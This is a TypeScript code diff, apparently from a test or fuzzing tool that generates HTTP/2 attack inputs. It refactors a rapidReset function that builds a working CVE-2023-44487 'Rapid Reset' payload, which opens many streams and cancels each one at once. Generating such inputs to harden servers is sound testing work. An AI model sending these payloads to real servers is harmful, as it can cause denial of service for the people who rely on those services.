@@ -31,7 +31,8 @@ function packed(fields: readonly Field[]): Buffer {
   );
 }
 
-const opening = Buffer.concat([
+/** How a client begins. */
+export const opening: Buffer = Buffer.concat([
   Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
   frame(4, 0, 0, Buffer.alloc(0)),
 ]);
@@ -120,18 +121,23 @@ export function makeHttp2Attack(random: Random, index: number): Buffer {
   return Buffer.concat(parts);
 }
 
-/** A connection that opens so many streams and resets each at once (CVE-2023-44487). */
-export function rapidReset(streams: number): Buffer {
-  const fields = packed([
+/** A plain request on a stream. */
+export function getOf(stream: number): Buffer {
+  const fields: Field[] = [
     [':method', 'GET'],
     [':scheme', 'http'],
     [':authority', 'a'],
     [':path', '/'],
-  ]);
+  ];
+  return frame(1, 5, stream, packed(fields));
+}
+
+/** A connection that opens so many streams and resets each at once (CVE-2023-44487). */
+export function rapidReset(streams: number): Buffer {
   const cancel = Buffer.from([0, 0, 0, 8]);
   const parts: Buffer[] = [opening];
   for (let stream = 1; stream < streams * 2; stream += 2) {
-    parts.push(frame(1, 5, stream, fields), frame(3, 0, stream, cancel));
+    parts.push(getOf(stream), frame(3, 0, stream, cancel));
   }
   return Buffer.concat(parts);
 }
